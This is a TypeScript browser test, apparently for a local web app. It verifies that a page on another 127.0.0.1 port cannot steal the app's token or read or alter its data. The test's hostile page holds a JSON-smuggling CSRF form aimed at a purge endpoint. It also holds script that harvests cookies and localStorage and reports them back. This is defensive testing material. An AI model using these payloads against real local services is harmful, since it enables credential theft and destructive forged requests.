/**
 * Another server on 127.0.0.1 (any other port) gets nothing of the web page's credential, in a
 * real Chromium: after the page was opened with its printed URL, a page served from another port
 * in the same browser sends that port no cookie, header, address or referrer holding the token,
 * cannot read the page's answers, and cannot make it write. (Cookies are scoped to a host, not a
 * port: a token kept in one would be sent along to every local server the browser visits.)
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { type Browser, chromium } from "playwright-core";
import { cleanupTempDirs, testSeed } from "../helpers.ts";
import { findChromium } from "../web/chromium.ts";
import { type Running, type Seeded, seedStore, startServer } from "../web/harness.ts";

const chrome = findChromium();
const run = chrome.skip ? describe.skip : describe;

let seeded: Seeded;
let web: Running;
let browser: Browser;
/** Every request the other server received: its address and headers. */
const seen: { url: string; headers: Record<string, string> }[] = [];
/** What the other server's page could learn, reported back to it. */
const reports: string[] = [];
let other: ReturnType<typeof Bun.serve>;

function page(ours: number): string {
  const target = `http://127.0.0.1:${ours}`;
  return `<!doctype html><title>another local server</title>
<img src="${target}/api/stats"><img src="${target}/">
<form id="f" method="post" action="${target}/api/purge" enctype="text/plain" target="sink"><input name='{"all":true,"confirm":true,"x":"' value='"}'></form>
<iframe name="sink"></iframe><iframe src="${target}/"></iframe>
<script>
(async () => {
  const report = (what) => fetch("/report", { method: "POST", body: what });
  for (const path of ["/api/stats", "/api/csrf", "/"]) {
    try {
      const r = await fetch("${target}" + path, { credentials: "include" });
      report("read " + path + " " + r.status + " " + (await r.text()).slice(0, 200));
    } catch (e) { report("blocked " + path); }
    try {
      const r = await fetch("${target}" + path, { credentials: "include", mode: "no-cors" });
      report("no-cors " + path + " " + r.type);
    } catch (e) { report("no-cors blocked " + path); }
  }
  report("storage " + JSON.stringify(Object.assign({}, localStorage)));
  report("cookie " + document.cookie);
  document.getElementById("f").submit();
  setTimeout(() => report("done"), 500);
})();
</script>`;
}

beforeAll(async () => {
  if (chrome.skip) return;
  seeded = await seedStore(testSeed("hostile other port"));
  web = startServer(seeded.config);
  other = Bun.serve({
    hostname: "127.0.0.1",
    port: 0,
    async fetch(req) {
      seen.push({ url: req.url, headers: Object.fromEntries(req.headers) });
      const url = new URL(req.url);
      if (url.pathname === "/report") {
        reports.push(await req.text());
        return new Response("ok");
      }
      return new Response(page(web.port), { headers: { "content-type": "text/html" } });
    },
  });
  browser = await chromium.launch({ executablePath: chrome.path!, args: ["--no-sandbox"] });
}, 60_000);

afterAll(async () => {
  await browser?.close();
  other?.stop(true);
  await web?.stop();
  cleanupTempDirs();
});

run("another 127.0.0.1 port in the same browser", () => {
  test("receives no token in any cookie, header or address; cannot read the page's answers; cannot purge", async () => {
    const context = await browser.newContext();
    const tab = await context.newPage();
    await tab.goto(web.url);
    await tab.locator('[data-metric="storedTokens"]').waitFor();
    const before = await (await fetch(`${web.base}/api/stats`, { headers: web.auth })).json();
    // Pages of this server keep working in the tab (fetched with the token it keeps).
    await tab.locator("nav").getByRole("link", { name: "Sources", exact: true }).click();
    await tab.waitForURL(/\/sources$/);

    // The user visits another local server, in this tab and in a second one.
    await tab.goto(`http://127.0.0.1:${other.port}/one`);
    const second = await context.newPage();
    await second.goto(`http://127.0.0.1:${other.port}/two`);
    for (let i = 0; i < 200 && reports.filter((r) => r === "done").length < 2; i++) await Bun.sleep(50);
    expect(reports.filter((r) => r === "done").length).toBe(2);

    expect(seen.length).toBeGreaterThan(4);
    for (const request of seen) expect(JSON.stringify(request)).not.toContain(web.token);
    expect(seen.some((r) => r.headers.cookie?.includes("pi_sidecar"))).toBe(false);
    // Nothing of this server's answers reached the other page: unreadable (no CORS) or refused (no token).
    for (const r of reports) {
      expect(r).not.toContain(web.token);
      expect(r).not.toContain("storedTokens");
      expect(r).not.toMatch(/^read \/api\/\S+ 200/);
    }
    expect(reports).toContain("storage {}");
    // The forged purge changed nothing.
    const after = await (await fetch(`${web.base}/api/stats`, { headers: web.auth })).json();
    expect((after as any).totals.captures).toBe((before as any).totals.captures);

    // And back on this server's page, it still works from the token its own origin keeps.
    await tab.goto(`${web.base}/retrievals`);
    await tab.locator("[data-outcome]").first().waitFor();
    await context.close();
  }, 60_000);
});
